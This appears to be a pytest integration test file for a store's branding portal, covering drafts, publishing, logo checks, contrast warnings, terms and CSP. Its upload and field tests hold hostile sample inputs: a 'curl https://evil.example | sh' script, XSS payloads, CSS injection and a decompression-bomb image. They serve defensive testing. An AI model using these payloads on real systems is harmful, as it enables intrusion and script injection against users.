"""Branding: the draft and the published look, the live preview, logos, contrast, terms and the store's CSP.

The partner's admin edits a draft in the portal; the store and its emails keep the published look until
the admin publishes. Bad input (fake images, SVG, huge files, malformed colours, HTML in text fields,
another partner's version) is refused with a clear message and nothing reaches the store.
"""

from __future__ import annotations

import io
import re

import pytest
from PIL import Image
from sqlmodel import select

from app.domain.errors import InvalidInput
from app.models import AuditEvent, BrandingVersion, Consumer, Partner
from app.pages import CONTENT_SECURITY_POLICY
from app.services import branding
from tests.conftest import body_html
from tests.integration.conftest import StoreBrowser, page, redirect_path, reload

HTMX = {"HX-Request": "true"}
NEW_PRIMARY = "#b42318"


# --- helpers ------------------------------------------------------------------------------


def image_bytes(fmt: str = "PNG", size=(300, 120), color=(200, 30, 60, 255), **save) -> bytes:
    mode = "RGBA" if fmt in ("PNG", "WEBP") else "RGB"
    image = Image.new(mode, size, color[: len(mode)])
    out = io.BytesIO()
    image.save(out, format=fmt, **save)
    return out.getvalue()


def noise_png(size=(600, 600)) -> bytes:
    """A real PNG that doesn't compress: just over 1 MB."""
    import os

    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def upload(browser, data: bytes, filename: str = "logo.png", content_type: str = "image/png", **kwargs):
    return browser.post(
        "/branding/logo", {"logo": (io.BytesIO(data), filename, content_type)}, content_type="multipart/form-data", **kwargs
    )


def versions_of(session, partner) -> list[BrandingVersion]:
    session.rollback()
    return list(
        session.exec(
            select(BrandingVersion).where(BrandingVersion.partner_id == partner.id).order_by(BrandingVersion.version)
        ).all()
    )


def audit_actions(session, partner) -> list[str]:
    session.rollback()
    return [
        e.action
        for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id).order_by(AuditEvent.id)).all()
    ]


def stylesheet_url(store_page: str) -> str:
    match = re.search(r'<link rel="stylesheet" href="([^"]*(?:brand|draft)\.css[^"]*)"', store_page)
    assert match, store_page[:2000]
    return match.group(1)


def css_variable(css: str, name: str) -> str:
    match = re.search(rf"--{name}: (#[0-9a-f]{{6}});", css)
    assert match, css
    return match.group(1)


def live_primary(client, store: StoreBrowser) -> str:
    """The primary colour the store's own pages load, following the stylesheet link like a browser."""
    url = stylesheet_url(page(store.get("/")))
    return css_variable(client.get(url).get_data(as_text=True), "brand-primary")


@pytest.fixture
def admin(store, make_team_member, portal_as):
    """A signed-in admin of the store's partner, in the portal."""
    return portal_as(make_team_member(store.partner, "admin"))


def save(browser, **fields):
    return browser.post("/branding", fields, headers=HTMX)


# --- draft, preview, publish ----------------------------------------------------------------


def test_draft_edits_show_in_the_preview_but_not_in_the_store_or_emails_until_published(
    app, session, client, store, signed_in, admin, make_consumer, mailbox
):
    partner = store.partner
    before = live_primary(client, store)
    assert before == "#1f6feb"

    response = save(
        admin,
        store_name="Harbour Rewards",
        primary_color=NEW_PRIMARY,
        background_color="#fffbeb",
        footer_text="Rewards by Harbour Bank.\nTerms apply.",
        support_email="Help@Harbour.example",
    )
    assert response.status_code == 200
    text = page(response)
    assert 'id="branding-live"' in text and "not live yet" in text
    assert 'hx-swap-oob="true"' in text and "Harbour Rewards" in text  # the versions list, out of band
    draft = branding.current_draft(session, reload(session, Partner, partner.id))
    assert (draft.store_name, draft.primary_color, draft.support_email) == (
        "Harbour Rewards",
        NEW_PRIMARY,
        "help@harbour.example",
    )

    # The preview frames point at the real store pages rendered with the draft, reloaded by a new URL.
    frame = re.search(r'id="preview-desktop"[^>]*src="([^"]+)"', text).group(1)
    assert "/portal/branding/preview/home?v=" in frame
    home_preview = admin.client.get(frame)
    assert home_preview.status_code == 200
    preview_page = page(home_preview)
    assert "Harbour Rewards" in preview_page and "Rewards by Harbour Bank." in preview_page
    assert "Hi Alex, treat yourself or someone else." in preview_page  # the real store template, a sample consumer
    draft_css = admin.client.get(stylesheet_url(preview_page))
    assert draft_css.status_code == 200 and css_variable(draft_css.get_data(as_text=True), "brand-primary") == NEW_PRIMARY
    for name in ("brand", "checkout"):
        preview = admin.client.get(f"/portal/branding/preview/{name}")
        assert preview.status_code == 200 and "Harbour Rewards" in page(preview), name
    assert "Who is it for?" in page(admin.client.get("/portal/branding/preview/checkout"))
    for name in ("welcome", "delivery"):
        email = admin.client.get(f"/portal/branding/preview/{name}")
        assert email.status_code == 200
        assert f"background:{NEW_PRIMARY}" in page(email) and "Harbour Rewards" in page(email), name
        assert "style-src 'unsafe-inline'" in email.headers["Content-Security-Policy"]
        assert "script-src" not in email.headers["Content-Security-Policy"]  # default-src 'none': no script at all

    # The live store and new emails still wear the published look.
    assert live_primary(client, store) == before
    home = page(store.get("/"))
    assert "Harbour Rewards" not in home and "Rewards by Harbour Bank." not in home
    consumer = make_consumer(partner)
    welcome = body_html(mailbox.last_to(consumer.email))
    assert "background:#1f6feb" in welcome and NEW_PRIMARY not in welcome and "Harbour Rewards" not in welcome

    # Publish: the store and the emails change; the stylesheet URL changes with the version.
    old_url = stylesheet_url(page(store.get("/")))
    published = admin.post("/branding/publish")
    assert published.status_code == 303 and redirect_path(published) == "/portal/branding"
    assert "is live in the store" in page(admin.get("/branding"))
    home = page(store.get("/"))
    assert "Harbour Rewards" in home and "Rewards by Harbour Bank." in home and "mailto:help@harbour.example" in home
    assert stylesheet_url(home) != old_url
    assert live_primary(client, store) == NEW_PRIMARY
    other = make_consumer(reload(session, Partner, partner.id))
    welcome = body_html(mailbox.last_to(other.email))
    assert f"background:{NEW_PRIMARY}" in welcome and "Harbour Rewards" in welcome and "Rewards by Harbour Bank." in welcome
    assert "background:#fffbeb" in welcome

    partner = reload(session, Partner, partner.id)
    assert (partner.store_name, partner.primary_color, partner.background_color) == ("Harbour Rewards", NEW_PRIMARY, "#fffbeb")
    assert [v.status for v in versions_of(session, partner)] == ["published"]
    assert partner.branding_version_id == versions_of(session, partner)[0].id
    assert audit_actions(session, partner)[-2:] == ["branding.draft", "branding.publish"]


def test_the_text_colours_are_picked_for_contrast_in_the_stylesheet_and_the_emails(
    app, session, client, store, signed_in, admin, make_consumer, mailbox
):
    save(admin, primary_color="#fde047", background_color="#111827")  # a light primary, a dark background
    # Yellow links on the white cards fail their check: publishing needs the admin's say-so.
    admin.post("/branding/publish", {"acknowledge_contrast": "yes"})
    css = client.get(stylesheet_url(page(store.get("/")))).get_data(as_text=True)
    assert css_variable(css, "brand-on-primary") == "#1f2328"  # dark text on the yellow header and buttons
    assert css_variable(css, "brand-on-background") == "#ffffff"  # light text on the dark page
    welcome = body_html(mailbox.last_to(make_consumer(reload(session, Partner, store.partner.id)).email))
    assert "background:#fde047;color:#1f2328" in welcome


def test_the_preview_works_for_a_partner_without_any_gift_cards_yet(app, admin):
    for name in ("home", "brand", "checkout", "delivery"):
        response = admin.client.get(f"/portal/branding/preview/{name}")
        assert response.status_code == 200 and "Sample Gift Card" in page(response), name
    assert admin.client.get("/portal/branding/preview/statement").status_code == 404


def test_publish_archives_the_previous_version_and_an_old_version_can_be_restored(app, session, client, store, signed_in, admin):
    partner = store.partner
    save(admin, primary_color="#067647", store_name="Green Store")
    admin.post("/branding/publish")
    save(admin, primary_color="#5b21b6", store_name="Purple Store")
    admin.post("/branding/publish")
    first, second = versions_of(session, partner)
    assert (first.status, second.status) == ("archived", "published")
    assert live_primary(client, store) == "#5b21b6"

    listing = page(admin.get("/branding"))
    assert f'id="version-{first.id}"' in listing and "Restore into the draft" in listing

    restored = admin.post(f"/branding/versions/{first.id}/restore")
    assert restored.status_code == 303
    assert "Version 1 is in the draft now" in page(admin.get("/branding"))
    draft = branding.current_draft(session, reload(session, Partner, partner.id))
    assert (draft.version, draft.primary_color, draft.store_name) == (3, "#067647", "Green Store")
    assert live_primary(client, store) == "#5b21b6"  # restoring only fills the draft

    admin.post("/branding/publish")
    assert live_primary(client, store) == "#067647"
    assert [v.status for v in versions_of(session, partner)] == ["archived", "archived", "published"]
    assert "branding.restore" in audit_actions(session, partner)


def test_each_change_by_the_admin_is_in_the_audit_log_and_saves_that_change_nothing_are_not(app, session, store, admin):
    save(admin, store_name="Audit Store", primary_color="#0f766e")
    save(admin, store_name="Audit Store", primary_color="#0f766e")  # htmx saved again with the same values
    save(admin, store_name="Audit Store", primary_color="#0F766E")  # the same colour, written differently
    upload(admin, image_bytes())
    admin.post("/branding/publish")
    assert audit_actions(session, store.partner) == ["team.invite", "branding.draft", "branding.logo", "branding.publish"]
    events = session.exec(
        select(AuditEvent)
        .where(AuditEvent.partner_id == store.partner.id, AuditEvent.action.startswith("branding."))
        .order_by(AuditEvent.id)
    ).all()
    assert events[0].summary == "Draft version 1: store_name, primary_color changed"
    assert '"primary_color": "#0f766e"' in events[2].details and '"logo": true' in events[2].details
    assert all(event.team_member_id == admin.member.id for event in events)


def test_publishing_with_no_change_is_refused(app, session, store, admin):
    nothing = admin.post("/branding/publish")
    assert nothing.status_code == 422 and "the same as the live store" in page(nothing)
    save(admin, primary_color="#1f6feb")  # the colour it already has
    again = admin.post("/branding/publish")
    assert again.status_code == 422
    assert reload(session, Partner, store.partner.id).branding_version_id is None


# --- contrast -----------------------------------------------------------------------------


def test_low_contrast_is_warned_about_before_publishing(app, session, store, admin):
    response = save(admin, primary_color="#fde68a", background_color="#ffffff")
    text = page(response)
    assert "Contrast below WCAG AA" in text
    assert "Links in the primary colour on the background: #fde68a on #ffffff has a contrast of 1.25:1" in text
    assert "Publish anyway" in text

    good = page(save(admin, primary_color="#1d4ed8"))
    assert "meets WCAG AA (4.5:1)" in good and "Publish anyway" not in good

    assert [c.what for c in branding.contrast_warnings(branding.current_draft(session, store.partner))] == []
    grey = BrandingVersion(partner_id=0, version=0, primary_color="#777777", background_color="#808080")
    assert {c.what for c in branding.contrast_warnings(grey)} == {
        "Text on the primary colour (header, buttons, email header)",
        "Text on the background colour",
        "Links in the primary colour on the background",
        "Links in the primary colour on white cards",
        # The accent draws the focus ring: 3:1 against what it is drawn on (#d97706 on grey and on white).
        "Focus ring in the accent colour on the background",
    }


# --- logos --------------------------------------------------------------------------------


def test_a_logo_is_checked_re_encoded_as_png_resized_and_served_once_published(
    app, session, client, store, signed_in, admin, make_consumer, mailbox
):
    exif = Image.Exif()
    exif[0x010E] = "secret camera note"  # ImageDescription
    photo = image_bytes("JPEG", size=(2000, 400), color=(10, 120, 200), exif=exif.tobytes())
    response = upload(admin, photo, filename="logo.jpg", content_type="image/jpeg", headers=HTMX)
    assert response.status_code == 200
    draft = branding.current_draft(session, store.partner)
    assert (draft.logo_width, draft.logo_height) == (512, 102)
    stored = Image.open(io.BytesIO(draft.logo_png))
    assert stored.format == "PNG" and not stored.getexif() and b"secret camera note" not in draft.logo_png

    # In the preview from the portal only; the live store has no logo yet.
    preview = page(admin.client.get("/portal/branding/preview/home"))
    logo_url = re.search(r'<img class="store-logo" src="([^"]+)"', preview).group(1)
    assert logo_url.startswith("/portal/branding/draft-logo.png")
    assert admin.client.get(logo_url).data == draft.logo_png
    assert client.get(logo_url).status_code in (302, 303)  # not for anyone outside the portal
    assert "store-logo" not in page(store.get("/"))
    assert client.get(f"/s/{store.partner.slug}/logo/{draft.id}.png").status_code == 404  # a draft is not public

    admin.post("/branding/publish")
    home = page(store.get("/"))
    public_url = f"/s/{store.partner.slug}/logo/{draft.id}.png"
    assert f'<img class="store-logo" src="{public_url}"' in home
    served = client.get(public_url)
    assert served.status_code == 200 and served.mimetype == "image/png" and served.data == draft.logo_png
    assert "immutable" in served.headers["Cache-Control"]
    assert client.get(public_url, headers={"If-None-Match": served.headers["ETag"]}).status_code == 304

    # Emails show the same logo, by an absolute URL.
    welcome = body_html(mailbox.last_to(make_consumer(reload(session, Partner, store.partner.id)).email))
    assert f'<img src="http://store.test{public_url}"' in welcome

    # Removing it from the draft leaves the live logo alone until the next publish.
    assert admin.post("/branding/logo/remove", headers=HTMX).status_code == 200
    assert public_url in page(store.get("/"))
    admin.post("/branding/publish")
    assert "store-logo" not in page(store.get("/"))
    assert client.get(public_url).status_code == 200  # emails already sent still show it


def test_a_transparent_webp_keeps_its_transparency_and_a_small_logo_is_not_enlarged(app, session, store, admin):
    response = upload(
        admin,
        image_bytes("WEBP", size=(120, 40), color=(0, 0, 0, 0), lossless=True),
        filename="logo.webp",
        content_type="image/webp",
    )
    assert response.status_code == 303
    draft = branding.current_draft(session, store.partner)
    stored = Image.open(io.BytesIO(draft.logo_png))
    assert stored.size == (120, 40) and stored.mode == "RGBA" and stored.getpixel((5, 5))[3] == 0


SCRIPT = b"<script>alert(document.cookie)</script>"


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "logo.png", "must be a PNG, JPEG or WebP image"),
        (b"\x89PNG\r\n\x1a\n" + SCRIPT * 20, "logo.png", "must be a PNG, JPEG or WebP image"),
        (SCRIPT, "logo.png", "SVG and other text files can't be logos"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
            "logo.svg",
            "SVG and other text files can't be logos",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "logo.png",
            "SVG and other text files can't be logos",
        ),
        (image_bytes("GIF", color=(1, 2, 3)), "logo.gif", "must be a PNG, JPEG or WebP image"),
        (image_bytes("BMP", color=(1, 2, 3)), "logo.png", "must be a PNG, JPEG or WebP image"),
        (image_bytes("PNG")[:-40], "logo.png", "must be a PNG, JPEG or WebP image"),  # truncated
        (noise_png(), "logo.png", "it can be at most 1 MB"),
        (b"", "logo.png", "Choose an image file"),
    ],
    ids=[
        "shell-script-renamed",
        "png-header-then-script",
        "html-renamed",
        "svg",
        "svg-renamed-png",
        "gif",
        "bmp",
        "truncated-png",
        "over-1-mb",
        "empty",
    ],
)
def test_a_bad_logo_is_refused_with_a_clear_message_and_changes_nothing(
    app, session, client, store, admin, data, filename, message
):
    response = upload(admin, data, filename=filename, headers=HTMX)
    assert response.status_code == 422
    assert message in page(response)
    assert 'role="alert"' in page(response)
    draft = branding.current_draft(session, store.partner)
    assert draft is None or draft.logo_png is None
    assert "branding.logo" not in audit_actions(session, store.partner)


def test_an_upload_far_over_the_limit_is_not_even_read(app, session, store, admin, make_team_member, portal_as):
    from app.portal.branding import LOGO_REQUEST_LIMIT

    # The "over-1-mb" case above is read and refused by the logo check; this one stops at the request's size.
    assert 1024 * 1024 < len(noise_png()) < LOGO_REQUEST_LIMIT - 1024
    huge = b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 1024 * 1024)
    response = upload(admin, huge, headers=HTMX)
    assert response.status_code == 422 and "bigger than 1 MB" in page(response)
    assert branding.current_draft(session, store.partner) is None
    viewer = portal_as(make_team_member(store.partner, "viewer"))
    assert upload(viewer, huge).status_code == 413


def test_a_logo_with_huge_dimensions_is_refused_before_it_is_decoded(app, session, store, admin):
    bomb = Image.new("1", (5000, 5000))  # 1-bit: a few kilobytes on disk, 25 megapixels decoded
    out = io.BytesIO()
    bomb.save(out, format="PNG")
    assert len(out.getvalue()) < 1024 * 1024
    response = upload(admin, out.getvalue(), headers=HTMX)
    assert response.status_code == 422 and "5000×5000 pixels" in page(response)


# --- bad input in fields ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"primary_color": "red"}, "The primary colour must be a colour written like #1a2b3c"),
        ({"accent_color": "#12345"}, "The accent colour must be a colour written like #1a2b3c"),
        ({"background_color": "#fff;} body { display:none"}, "The background colour must be a colour written like #1a2b3c"),
        ({"primary_color": "url(https://evil.example/x.png)"}, "The primary colour must be a colour"),
        ({"store_name": "<script>alert(1)</script>"}, "The store name can't contain HTML or script"),
        ({"store_name": "Harbour <b>Rewards</b>"}, "The store name can't contain HTML or script"),
        ({"footer_text": 'Hi <img src=x onerror="alert(1)">'}, "The footer text can't contain HTML or script"),
        ({"support_email": "<script>@example.com"}, "The support email can't contain HTML or script"),
        ({"support_email": "not-an-email"}, "The support email 'not-an-email' is not a valid email address"),
        ({"store_name": "   "}, "Enter a store name."),
        ({"store_name": "x" * 121}, "The store name can be at most 120 characters"),
        ({"footer_text": "y" * 501}, "The footer text can be at most 500 characters"),
        ({"store_name": "Bell\x07Store"}, "The store name contains characters that are not allowed"),
        # One bad field refuses the whole save: the good colour is not kept either.
        ({"primary_color": "#000000", "store_name": "<i>x</i>"}, "The store name can't contain HTML or script"),
    ],
)
def test_bad_fields_are_refused_with_a_clear_message_and_nothing_changes(
    app, session, client, store, signed_in, admin, fields, message
):
    save(admin, store_name="Before Store")
    before = branding.current_draft(session, store.partner)
    snapshot = {name: getattr(before, name) for name in branding.FIELDS}
    for headers in (HTMX, {}):  # htmx's live save, and the plain form
        response = admin.post("/branding", fields, headers=headers)
        assert response.status_code == 422
        assert message in page(response)
    draft = branding.current_draft(session, store.partner)
    assert {name: getattr(draft, name) for name in branding.FIELDS} == snapshot
    # The plain form shows what was typed, escaped, for correcting it.
    text = admin.post("/branding", fields).get_data(as_text=True)
    assert "<script>alert(1)</script>" not in text and "<b>Rewards</b>" not in text
    # Nothing reaches the store.
    assert live_primary(client, store) == "#1f6feb"
    assert "Before Store" not in page(store.get("/"))


def test_only_clean_values_reach_the_store_even_if_a_draft_was_tampered_with(app, session, store, admin):
    save(admin, primary_color="#123456")
    draft = branding.current_draft(session, store.partner)
    from app.db import write_transaction

    with write_transaction(session):
        draft.primary_color = "#zzz;}x"
        session.add(draft)
    response = admin.post("/branding/publish")
    assert response.status_code == 422 and "primary colour must be a colour" in page(response)
    partner = reload(session, Partner, store.partner.id)
    assert partner.primary_color == "#1f6feb" and partner.branding_version_id is None


# --- tenants and roles --------------------------------------------------------------------


def test_another_partners_versions_drafts_and_logos_are_not_found(
    app, session, client, store, admin, make_partner, make_team_member, portal_as
):
    other_partner = make_partner()
    other_admin = portal_as(make_team_member(other_partner, "admin"))
    upload(other_admin, image_bytes())
    save(other_admin, primary_color="#000000", store_name="Other Store")
    other_admin.post("/branding/publish")
    save(other_admin, primary_color="#222222")
    published, other_draft = versions_of(session, other_partner)

    for version in (published, other_draft):
        response = admin.post(f"/branding/versions/{version.id}/restore")
        assert response.status_code == 404, version.status
        assert "no such branding version" in page(response)
    # The other partner's logo is not served under this store's address.
    assert client.get(f"/s/{store.partner.slug}/logo/{published.id}.png").status_code == 404
    assert client.get(f"/s/{other_partner.slug}/logo/{published.id}.png").status_code == 200
    # Each admin's preview and draft stylesheet are their own partner's.
    assert "Other Store" not in page(admin.client.get("/portal/branding/preview/home"))
    assert "#222222" not in admin.client.get("/portal/branding/draft.css").get_data(as_text=True)
    assert admin.client.get("/portal/branding/draft-logo.png").status_code == 404
    assert other_admin.client.get("/portal/branding/draft-logo.png").status_code == 200
    assert versions_of(session, store.partner) == []
    assert [v.status for v in versions_of(session, other_partner)] == ["published", "draft"]


def test_viewers_and_operators_see_the_branding_but_cannot_change_it(app, session, store, make_team_member, portal_as):
    for role in ("viewer", "operator"):
        browser = portal_as(make_team_member(store.partner, role))
        looking = browser.get("/branding")
        assert looking.status_code == 200
        text = page(looking)
        assert "only admins of your team can change it" in text and "disabled" in text and "hx-post" not in text
        assert browser.client.get("/portal/branding/preview/welcome").status_code == 200
        for path, data in [
            ("/branding", {"primary_color": "#000000"}),
            ("/branding/publish", {}),
            ("/branding/logo/remove", {}),
            ("/branding/terms", {"terms": "New terms"}),
        ]:
            assert browser.post(path, data).status_code == 403, (role, path)
        assert upload(browser, image_bytes()).status_code == 403
    assert versions_of(session, store.partner) == []
    assert reload(session, Partner, store.partner.id).terms_version == 1


def test_the_draft_stylesheet_preview_and_logo_need_a_portal_sign_in(app, client, store, signed_in):
    for path in (
        "/portal/branding/draft.css",
        "/portal/branding/preview/home",
        "/portal/branding/draft-logo.png",
        "/portal/branding",
    ):
        response = store.client.get(path)  # a consumer's session is not a portal session
        assert response.status_code in (302, 303) and "/portal/login" in response.headers["Location"], path


# --- terms --------------------------------------------------------------------------------


def test_a_new_terms_version_makes_signed_in_consumers_accept_it_at_their_next_request(app, session, store, signed_in, admin):
    assert store.get("/").status_code == 200
    bad = admin.post("/branding/terms", {"terms": "1. Be nice.\n<script>alert(1)</script>"})
    assert bad.status_code == 422 and "can't contain HTML or script" in page(bad)
    assert "1. Be nice." in page(bad)  # the text typed stays in the form
    empty = admin.post("/branding/terms", {"terms": "  "})
    assert empty.status_code == 422
    assert reload(session, Partner, store.partner.id).terms_version == 1

    published = admin.post("/branding/terms", {"terms": "1. Be nice.\n2. Gift cards are not cash."})
    assert published.status_code == 303
    assert reload(session, Partner, store.partner.id).terms_version == 2
    assert "terms.publish" in audit_actions(session, store.partner)

    response = store.get("/")
    assert response.status_code == 303 and redirect_path(response) == store.url("/terms")
    terms = page(store.get("/terms"))
    assert "Our terms have changed" in terms and "2. Gift cards are not cash." in terms
    assert store.post("/terms", {"accept": "yes", "version": "2"}).status_code == 303
    assert store.get("/").status_code == 200
    assert reload(session, Consumer, signed_in.id).accepted_terms_version == 2

    same = admin.post("/branding/terms", {"terms": "1. Be nice.\n2. Gift cards are not cash."})
    assert same.status_code == 422 and "same as the current version" in page(same)


# --- the store's stylesheet and Content-Security-Policy ------------------------------------


def test_the_stylesheet_is_cached_for_good_under_its_version_and_revalidated_otherwise(app, client, store, signed_in, admin):
    url = stylesheet_url(page(store.get("/")))
    assert url.endswith("brand.css?v=0")
    unversioned = client.get(url)
    assert unversioned.headers["Cache-Control"] == "public, no-cache" and unversioned.headers["ETag"]
    assert client.get(url, headers={"If-None-Match": unversioned.headers["ETag"]}).status_code == 304

    save(admin, primary_color="#0f766e")
    admin.post("/branding/publish")
    url = stylesheet_url(page(store.get("/")))
    assert re.search(r"brand\.css\?v=\d+$", url) and not url.endswith("v=0")
    versioned = client.get(url)
    assert versioned.headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert css_variable(versioned.get_data(as_text=True), "brand-primary") == "#0f766e"
    assert versioned.headers["ETag"] != unversioned.headers["ETag"]
    # An old version's URL is not cached for good: it now answers with the new colours.
    assert client.get(f"/s/{store.partner.slug}/brand.css?v=0").headers["Cache-Control"] == "public, no-cache"


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)


def test_every_store_page_has_a_strict_csp_and_no_inline_script_or_style(
    app, session, client, store, signed_in, admin, make_brand
):
    from app.services import catalog

    brand = make_brand("Cedar Books")
    catalog.make_available(session, partner=store.partner, brand=brand)
    upload(admin, image_bytes())
    save(admin, footer_text="Footer", support_email="help@example.com")
    admin.post("/branding/publish")
    paths = ["/", f"/brands/{brand.slug}", f"/brands/{brand.slug}/checkout?amount=10", "/orders", "/statement"]
    for path in paths:
        response = store.get(path)
        assert response.status_code == 200, path
        assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY, path
        text = response.get_data(as_text=True)
        assert not INLINE_SCRIPT.search(text), path
        assert not INLINE_HANDLER.search(text), path
        assert "style=" not in text and "<style" not in text, path
        assert "javascript:" not in text, path
        assert '"includeIndicatorStyles":false' in text, path
    for policy in (
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "frame-ancestors 'self'",
        "form-action 'self'",
        "base-uri 'self'",
    ):
        assert policy in CONTENT_SECURITY_POLICY
    assert "unsafe" not in CONTENT_SECURITY_POLICY
    login = StoreBrowser(app.test_client(), store.partner).get("/login")
    assert login.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert admin.get("/branding").headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert "style=" not in admin.get("/branding").get_data(as_text=True)


def test_the_branding_page_lists_versions_and_the_live_panel_switches_preview_pages(app, session, store, admin):
    first = page(admin.get("/branding"))
    assert "No draft: this is the live look." in first and "No versions yet" in first
    panel = admin.get("/branding/panel?page=welcome", headers=HTMX)
    assert panel.status_code == 200 and panel.headers["Vary"].count("HX-Request")
    text = page(panel)
    assert text.lstrip().startswith('<section id="branding-live"') and "<html" not in text
    assert 'src="/portal/branding/preview/welcome?v=0"' in text
    assert 'value="welcome"' in text  # the page kept for the next save
    saved = page(save(admin, store_name="Kept Page Store", preview_page="welcome"))
    assert re.search(r'src="/portal/branding/preview/welcome\?v=\d{6,}"', saved)
    assert "Draft version 1, saved" in saved


# --- the use cases, without the portal ------------------------------------------------------


def test_each_branding_change_is_one_service_call_that_records_who_made_it(app, session, store, make_team_member):
    """The services own the change and its audit row (issue #15): no view has to remember either."""
    partner, member = store.partner, make_team_member(store.partner, "admin")

    draft, changed = branding.update_draft(session, partner=partner, fields={"store_name": "Service Store"}, by=member)
    assert changed == {"store_name": "Service Store"} and draft.created_by_id == member.id
    branding.update_draft(session, partner=partner, fields={"store_name": "Service Store"}, by=member)  # nothing new
    branding.upload_logo(session, partner=partner, data=image_bytes(), filename="mark.png", by=member)
    branding.remove_logo(session, partner=partner, by=member)
    published = branding.publish(session, partner=partner, by=member)
    source, again = branding.restore(session, partner=partner, version_id=published.id, by=member)
    terms = branding.publish_terms(session, partner=partner, body="Be kind.", by=member)

    assert (source.id, again.status) == (published.id, "draft") and terms.body == "Be kind."
    events = session.exec(
        select(AuditEvent)
        .where(AuditEvent.partner_id == partner.id, AuditEvent.team_member_id == member.id)
        .order_by(AuditEvent.id)
    ).all()
    assert [e.action for e in events] == [
        "branding.draft",
        "branding.logo",
        "branding.logo_removed",
        "branding.publish",
        "branding.restore",
        "terms.publish",
    ]
    assert '"filename": "mark.png"' in events[1].details
    assert events[3].summary == f"Branding version {published.version} published"
    editor = branding.editor(session, reload(session, Partner, partner.id))
    assert editor.draft.id == again.id and not editor.unpublished and editor.terms.version == terms.version


def test_a_refused_branding_change_records_nothing(app, session, store, make_team_member):
    partner, member = store.partner, make_team_member(store.partner, "admin")
    with pytest.raises(InvalidInput):
        branding.update_draft(session, partner=partner, fields={"primary_color": "red-ish"}, by=member)
    with pytest.raises(InvalidInput):
        branding.publish(session, partner=partner, by=member)  # nothing to publish
    assert [e.action for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id)).all()] == [
        "team.invite"
    ]
